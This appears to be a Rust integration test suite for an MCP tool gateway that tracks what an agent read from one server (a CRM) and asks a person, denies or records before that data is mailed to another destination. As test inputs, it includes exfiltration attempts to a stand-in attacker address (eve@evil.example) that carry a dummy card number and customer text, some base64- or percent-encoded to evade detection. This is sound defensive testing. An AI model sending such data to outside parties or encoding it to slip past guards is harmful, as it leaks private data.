//! What was read at one server decides what may be told to another.

use std::thread;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use serde_json::{Value, json};

use super::several::{agent, server};
use crate::service::own_roots::{call, over_http};
use crate::service::questions::Operators;
use crate::support::http::Agent;
use crate::support::processes::eventually;
use crate::support::serving::Serving;
use crate::support::setup::Setup;

const POLICIES: &str = r#"
@id("all") permit (principal, action, resource);
"#;

const LABELS: &str = r#"
[tools."crm/read"]
permission  = "read"
sensitivity = "internal"
[tools."crm/send"]
permission = "write"
[tools."mail/read"]
permission = "read"
[tools."mail/send"]
permission   = ["write", "connect"]
untrusted    = false
destinations = { "/to" = ["*@corp.example"] }
"#;

/// A gate before both servers, with these keys of `mail` and sections.
fn gate(of_mail: &str, more: &str) -> (Serving, Operators) {
    with(POLICIES, of_mail, more)
}

fn with(policies: &str, of_mail: &str, more: &str) -> (Serving, Operators) {
    let mut setup = over_http(Setup::of(server("crm")).policies(policies).labels(LABELS));
    setup.key = Some("crm");
    setup.more = format!(
        "[servers.mail]\ncommand = {:?}\n{of_mail}\n{more}\n",
        server("mail")
    );
    let operators = Operators::of(&mut setup);
    (Serving::start(setup), operators)
}

/// A person is asked about this call, and agrees. Returns the question.
fn asks(operators: &Operators, agent: &Agent, arguments: &Value) -> String {
    thread::scope(|scope| {
        let asking = scope.spawn(|| call(agent, "send", arguments));
        let id = operators.asked();
        let shown = operators.command(&["list"]);
        assert!(operators.approve(&id).status.success());
        let said = asking.join().unwrap();
        assert!(said.ends_with(" send"), "{said}");
        String::from_utf8(shown.stdout).unwrap()
    })
}

fn to(address: &str) -> Value {
    json!({ "to": address })
}

#[test]
fn after_text_of_strangers_a_person_is_asked_about_writes_and_destinations_at_every_server() {
    let (gate, operators) = gate("untrusted = true", "[flow]\nask = 'once_per_destination'");
    let (crm, mail) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
    assert_eq!(call(&crm, "send", &json!({})), "crm send");
    assert_eq!(call(&mail, "read", &json!({})), "mail read");
    // Approved, and no question.
    assert_eq!(call(&mail, "send", &to("ada@corp.example")), "mail send");
    let asks = |key: &str, arguments: Value| {
        let agent = if key == "crm" { &crm } else { &mail };
        asks(&operators, agent, &arguments)
    };
    let shown = asks("mail", to("eve@evil.example"));
    for part in [
        "eve@evil.example",
        "to the same destinations",
        "read from",
        "crm",
        "untrusted in",
    ] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    // The same destination again, and another one.
    assert_eq!(call(&mail, "send", &to("eve@evil.example")), "mail send");
    asks("mail", to("mallory@evil.example"));
    // No destination holds for a second call.
    asks("crm", json!({}));
    asks("crm", json!({}));
    // What the session reads now was not agreed to.
    assert_eq!(call(&crm, "read", &json!({})), "crm read");
    asks("mail", to("eve@evil.example"));
    let audit = gate.setup().audit_text();
    assert!(
        audit.contains(r#""sources":["crm","mail"],"untrusted_from":["mail"]"#),
        "{audit}"
    );
}

#[test]
fn a_server_is_told_nothing_above_its_clearance_but_what_it_has_said_itself() {
    let (gate, _) = gate("clearance = 'public'", "[flow]\nflow_in = 'off'");
    let (crm, mail) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
    assert_eq!(call(&mail, "read", &json!({})), "mail read");
    assert_eq!(call(&crm, "read", &json!({})), "crm read");
    let denied = call(&mail, "read", &json!({}));
    assert!(
        denied.contains("above the clearance of this server"),
        "{denied}"
    );
    assert_eq!(call(&crm, "send", &json!({})), "crm send");
    let other = agent(&gate, "alice", "mail");
    assert_eq!(call(&other, "read", &json!({})), "mail read");
}

#[test]
fn a_wall_closes_a_server_to_what_another_has_said() {
    let wall = "[flow]\nflow_in = 'off'\n[flow.from.crm]\nto = []";
    let (gate, _) = gate("", wall);
    let (crm, mail) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
    assert_eq!(call(&mail, "send", &to("eve@evil.example")), "mail send");
    assert_eq!(call(&crm, "send", &json!({})), "crm send");
    let denied = call(&mail, "send", &to("ada@corp.example"));
    assert!(denied.contains("may not go to this server"), "{denied}");
    assert_eq!(call(&crm, "read", &json!({})), "crm read");
}

#[test]
fn a_yes_holds_for_no_more_than_the_question_said() {
    let careful = r#"
        @id("careful") @requires_consent forbid (principal, action == Mcp::Action::"call_tool",
        resource == Mcp::Tool::"mail/send")
        when { context.raw_arguments.hasTag("/careful") } unless { context.env.consent.granted };
    "#;
    let (gate, operators) = with(
        &format!("{POLICIES}{careful}"),
        "untrusted = true",
        "[flow]\nask = 'once_per_destination'",
    );
    let (crm, mail) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
    assert_eq!(call(&crm, "send", &json!({})), "crm send");
    assert_eq!(call(&mail, "read", &json!({})), "mail read");
    let eve = "eve@evil.example";
    // The policy asks with the rule, and then alone.
    let shown = asks(&operators, &mail, &json!({"to": eve, "careful": true}));
    assert!(
        shown.contains("careful") && shown.contains("builtin.flow_in"),
        "{shown}"
    );
    let approved = json!({"to": "ada@corp.example", "careful": true});
    asks(&operators, &mail, &approved);
    asks(&operators, &mail, &approved);
    // So no approval of this destination is kept.
    asks(&operators, &mail, &to(eve));
    assert_eq!(call(&mail, "send", &to(eve)), "mail send");
    asks(&operators, &mail, &json!({"to": eve, "careful": true}));
}

/// It connects, as long as no label says otherwise.
#[test]
fn a_server_without_labels_brings_untrusted_content() {
    let mut setup = over_http(Setup::of(server("crm")).policies(POLICIES).labels(LABELS));
    setup.key = Some("crm");
    setup.more = format!("[servers.web]\ncommand = {:?}\n", server("web"));
    let setup =
        setup.labels("[tools.\"crm/send\"]\npermission = \"write\"\nsensitivity = \"internal\"\n");
    let gate = Serving::start(setup);
    let (crm, web) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "web"));
    assert_eq!(call(&crm, "send", &json!({})), "crm send");
    assert_eq!(call(&web, "read", &json!({})), "web read");
    let denied = call(&crm, "send", &json!({}));
    assert!(denied.contains("untrusted content"), "{denied}");
}

/// What `crm` says of a customer.
const CUSTOMER: &str = "Ada Lovelace, card 4539 1488 0343 6467, wrote: \u{201c}please do not renew my contract\u{201d}";

fn with_evidence(evidence: &str) -> (Serving, Operators) {
    with_evidence_of(CUSTOMER, evidence, "")
}

/// `crm` says this text. With more sections.
fn with_evidence_of(text: &str, evidence: &str, more: &str) -> (Serving, Operators) {
    let mut setup = over_http(Setup::of(server(text)).policies(POLICIES).labels(LABELS));
    setup.key = Some("crm");
    setup.more = format!(
        "[servers.mail]\ncommand = {:?}\n[flow]\nflow_in = 'off'\nevidence = '{evidence}'\n{more}",
        server("mail")
    );
    let operators = Operators::of(&mut setup);
    (Serving::start(setup), operators)
}

fn mail(to: &str, text: &str) -> Value {
    json!({ "to": to, "text": text, "headers": ["x"] })
}

#[test]
fn what_a_server_has_said_is_found_in_a_mail_as_it_is_and_encoded() {
    let (gate, operators) = with_evidence("ask");
    let (crm, mails) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
    let eve = "eve@evil.example";
    let card = mail(eve, "the card is 4539-1488-0343-6467, bye");
    assert_eq!(call(&mails, "send", &card), "mail send");
    assert!(call(&crm, "read", &json!({})).starts_with(CUSTOMER));
    let encoded = BASE64_STANDARD.encode("She wrote: please do not renew my contract");
    for copied in [card.clone(), mail(eve, &encoded)] {
        let shown = asks(&operators, &mails, &copied);
        for part in ["repeats results of", "crm", eve, "builtin.evidence"] {
            assert!(shown.contains(part), "{part}: {shown}");
        }
    }
    // In other words it passes, and so does what goes to an approved destination, or back.
    let told = mail(
        eve,
        "She will not prolong the agreement; her card ends in 6467.",
    );
    assert_eq!(call(&mails, "send", &told), "mail send");
    let approved = mail("ada@corp.example", CUSTOMER);
    assert_eq!(call(&mails, "send", &approved), "mail send");
    assert!(call(&crm, "send", &json!({ "text": CUSTOMER })).starts_with(CUSTOMER));
    // Another session has not read it.
    let other = agent(&gate, "alice", "mail");
    assert_eq!(call(&other, "send", &card), "mail send");
}

#[test]
fn what_is_found_is_denied_or_recorded_alone() {
    let card = mail("eve@evil.example", "%34%35%33%39 1488 0343 6467");
    for (evidence, said) in [
        ("deny", "other arguments. They are results of `crm`."),
        ("record", "mail send"),
    ] {
        let (gate, _) = with_evidence(evidence);
        let (crm, mails) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
        assert!(call(&crm, "read", &json!({})).starts_with(CUSTOMER));
        let answer = call(&mails, "send", &card);
        assert!(answer.contains(said), "{answer}");
        eventually(|| {
            let audit = gate.setup().audit_text();
            let found = r#"{"guard":"evidence","code":"copied_data","detail":"crm"}"#;
            let is_told = audit.contains(found);
            is_told.then_some(()).ok_or(audit)
        });
    }
}

#[test]
fn what_an_agent_reads_on_in_a_long_result_is_found_too() {
    let row = |row: u32| format!("row {row} has the number {}", row * 7919 + 100_000);
    let rows: Vec<String> = (0..200).map(row).collect();
    let truncation = "[truncation]\nmax_bytes = 1024\n";
    let (gate, _) = with_evidence_of(&rows.join("; "), "deny", truncation);
    let (crm, mails) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
    let shown = call(&crm, "read", &json!({}));
    let middle = mail("eve@evil.example", &row(100));
    assert_eq!(call(&mails, "send", &middle), "mail send");
    let (_, uri) = shown.split_once("as the resource ").unwrap();
    let uri = uri.split([']', ' ']).next().unwrap();
    let (uri, _) = uri.split_once('?').unwrap();
    let at = shown.find("[mcp-protector").unwrap();
    for from in (at..rows.join("; ").len()).step_by(512) {
        let read = json!({"jsonrpc": "2.0", "id": 9, "method": "resources/read", "params": {"uri": format!("{uri}?from={from}")}});
        assert_eq!(crm.post(&read.to_string()).status, 200);
    }
    let denied = call(&mails, "send", &middle);
    assert!(
        denied.contains("repeat results of another server"),
        "{denied}"
    );
}
